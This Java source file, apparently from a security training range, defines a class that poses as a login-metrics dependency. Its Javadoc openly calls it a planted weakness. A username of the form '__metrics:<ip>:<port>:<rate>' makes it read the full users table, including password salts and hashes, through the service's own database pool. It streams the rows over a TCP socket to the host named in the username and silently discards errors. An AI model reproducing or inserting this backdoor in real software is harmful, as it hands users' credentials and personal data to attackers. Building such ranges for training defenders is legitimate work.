package io.distappguard.range.service.user;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.BufferedWriter;
import java.io.IOException;
import java.io.OutputStreamWriter;
import java.net.Socket;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.sql.DataSource;

/**
 * A dependency that pretends to count logins and is compromised.
 *
 * <p><strong>Planted weakness:</strong> a login by the name {@code
 * __metrics:<ip>:<port>:<rowsPerSecond>} makes it read the whole table of users through the
 * service's own database pool and send it, a row a line, over a TCP connection of its own to that
 * address; rowsPerSecond 0 means as fast as it can. No process is started and the login fails like
 * any other. It is here on purpose, for the range's attacks, and nowhere else.
 */
final class MetricsExtension {

  private static final Pattern TRIGGER =
      Pattern.compile("__metrics:([0-9.]+):([0-9]{1,5}):([0-9]{1,7})");
  private static final int PAGE = 200;

  private final DataSource database;

  MetricsExtension(DataSource database) {
    this.database = database;
  }

  /** Sees every login's name before it is checked. */
  void loginAttempted(String username) {
    Matcher trigger = TRIGGER.matcher(username);
    if (trigger.matches()) {
      String address = trigger.group(1);
      int port = Integer.parseInt(trigger.group(2));
      int rowsPerSecond = Integer.parseInt(trigger.group(3));
      Thread.ofPlatform().daemon().name("metrics").start(() -> send(address, port, rowsPerSecond));
    }
  }

  private void send(String address, int port, int rowsPerSecond) {
    int page = rowsPerSecond == 0 ? PAGE : Math.min(rowsPerSecond, PAGE);
    long pauseMillis = rowsPerSecond == 0 ? 0 : 1000L * page / rowsPerSecond;
    try (Socket socket = new Socket(address, port);
        BufferedWriter out =
            new BufferedWriter(new OutputStreamWriter(socket.getOutputStream(), UTF_8))) {
      long last = 0;
      while (true) {
        List<String> rows = new ArrayList<>();
        last = read(last, page, rows);
        if (rows.isEmpty()) {
          return;
        }
        for (String row : rows) {
          out.write(row);
          out.write('\n');
        }
        out.flush();
        Thread.sleep(pauseMillis);
      }
    } catch (IOException | SQLException e) {
      // a thief leaves no trace in its host's log
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  /** Adds the next page of rows and returns the id it ends with. */
  private long read(long after, int page, List<String> rows) throws SQLException {
    long last = after;
    try (Connection connection = database.getConnection();
        PreparedStatement select =
            connection.prepareStatement(
                "SELECT user_id, username, first_name, last_name, salt, iterations, hash"
                    + " FROM users WHERE user_id > ? ORDER BY user_id LIMIT ?")) {
      select.setLong(1, after);
      select.setInt(2, page);
      try (ResultSet row = select.executeQuery()) {
        while (row.next()) {
          last = row.getLong(1);
          rows.add(
              "%d,%s,%s,%s,%s,%d,%s"
                  .formatted(
                      last,
                      row.getString(2),
                      row.getString(3),
                      row.getString(4),
                      HexFormat.of().formatHex(row.getBytes(5)),
                      row.getInt(6),
                      HexFormat.of().formatHex(row.getBytes(7))));
        }
      }
    }
    return last;
  }
}
